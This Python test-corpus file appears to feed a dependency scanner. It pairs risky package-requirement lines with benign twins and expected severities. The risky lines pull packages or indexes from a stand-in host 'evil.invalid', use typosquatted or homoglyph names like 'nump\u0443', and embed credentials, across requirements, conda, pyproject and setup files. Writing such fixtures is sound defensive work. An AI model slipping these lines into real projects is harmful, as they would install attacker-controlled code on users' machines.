"""Lists of packages that fetch from elsewhere. Nothing of them is ever installed."""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus.malicious.case import Case

COMMIT = "1234567890abcdef1234567890abcdef12345678"
SHA = "a" * 64
LINES: dict[str, tuple[str, str, str]] = {
    "branch": ("x @ git+https://127.0.0.1/o/x@main", f"x @ git+https://127.0.0.1/o/x@{COMMIT}",
               "medium"),
    "editable-branch": ("-e git+https://127.0.0.1/o/x#egg=x",
                        f"-e git+https://127.0.0.1/o/x@{COMMIT}#egg=x", "medium"),
    "short-commit": ("git+ssh://git@127.0.0.1/o/x@1234567#egg=x",
                     f"git+ssh://git@127.0.0.1/o/x@{COMMIT}#egg=x", "medium"),
    "address": ("x @ https://evil.invalid/x-1.0-py3-none-any.whl",
                f"x @ https://evil.invalid/x-1.0-py3-none-any.whl#sha256={SHA}", "medium"),
    "archive": ("https://evil.invalid/x-1.0.tar.gz",
                f"https://evil.invalid/x-1.0.tar.gz --hash=sha256:{SHA}", "medium"),
    "extra-index": ("--extra-index-url https://evil.invalid/simple",
                    "--extra-index-url https://download.pytorch.org/whl/cu126", "medium"),
    "abbreviated": ("--extra-i https://evil.invalid/simple",
                    "--extra-i https://download.pytorch.org/whl/cu126", "medium"),
    "http-index": ("-ihttp://evil.invalid/simple", "-ihttps://pypi.org/simple", "medium"),
    "trusted-host": ("--trusted-host evil.invalid", "--trusted-host localhost:8080", "medium"),
    "find-links": ("-f https://evil.invalid/links", "-f https://data.pyg.org/whl", "medium"),
    "login": ("-i https://deploy:hunter2hunter@pypi.org/simple",
              "-i https://${USER}:${TOKEN}@pypi.org/simple", "medium"),
    "remote-list": ("-r https://evil.invalid/base.txt", "x==1.0", "medium"),
    "name": ("nump\u0443==1.0", "numpy==1.26.4", "high"),
    "name-like-another": ("tensorfow==2.19.0", "tensorflow==2.19.0", "medium"),
    "name-that-looks-alike": ("scikit-leam==1.7.2", "scikit-learn==1.7.2", "medium"),
    "unseen-letter": ("num\u200bpy==1.0", "numpy==1.26.4", "high"),
    "continued": ("--extra-index-url \\\n  https://evil.invalid/simple", "x==1.0 \\\n  # y",
                  "medium"),
    "not-read": ("x == == 1", "x == 1", "incomplete"),
}  # fmt: skip
OTHERS: dict[str, tuple[str, str, str, str]] = {
    "conda-pip": (
        "conda.yaml",
        "dependencies:\n- python=3.11.5\n- pip:\n  - x @ git+https://evil.invalid/x\n",
        "dependencies:\n- python=3.11.5\n- pip:\n  - x==1.0\nname: env\n",
        "medium",
    ),
    "conda-block": (
        "conda.yaml",
        "dependencies:\n- pip:\n  - |\n    x==1.0\n    --index-url http://evil.invalid\n",
        "dependencies:\n- pip:\n  - |\n    x==1.0\n    y==1.0\n",
        "medium",
    ),
    "conda-channel": (
        "environment.yml",
        "channels: [https://evil.invalid/conda]\ndependencies: [numpy=1.26]\n",
        "channels: [conda-forge]\ndependencies: [numpy=1.26]\n",
        "medium",
    ),
    "python-env": (
        "python_env.yaml",
        "python: 3.11.5\ndependencies:\n- --extra-index-url https://evil.invalid/simple\n",
        "python: 3.11.5\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- mlflow==3.1.0\n",
        "medium",
    ),
    "project": (
        "pyproject.toml",
        '[build-system]\nrequires = ["x @ git+https://evil.invalid/x"]\n',
        '[build-system]\nrequires = ["hatchling>=1.26"]\n',
        "medium",
    ),
    "poetry": (
        "pyproject.toml",
        '[tool.poetry.dependencies]\nx = {git = "https://evil.invalid/x.git", branch = "main"}\n',
        '[tool.poetry.dependencies]\npython = "^3.11"\nx = "^1.0"\n',
        "medium",
    ),
    "setup-cfg": (
        "setup.cfg",
        "[options]\ninstall_requires =\n  x @ https://evil.invalid/x-1.0.zip\n",
        "[options]\ninstall_requires =\n  x>=1.0\n",
        "medium",
    ),
    "setup-py": (
        "setup.py",
        "from setuptools import setup\nD = ['x @ git+https://evil.invalid/x']\n"
        "setup(install_requires=D)\n",
        "from setuptools import setup\nD = ['x>=1']\nsetup(install_requires=D)\n",
        "medium",
    ),
}


def cases() -> Iterator[Case]:
    """Yield the cases of the family."""
    for name, (line, twin, expect) in LINES.items():
        yield _case(name, "requirements.txt", f"{line}\n", f"{twin}\n", expect)
    for name, (file, text, twin, expect) in OTHERS.items():
        yield _case(name, file, text, twin, expect)


def _case(name: str, file: str, text: str, twin: str, expect: str) -> Case:
    return Case(name, "requirements", file, text.encode(), twin.encode(), expect, reaches=False)
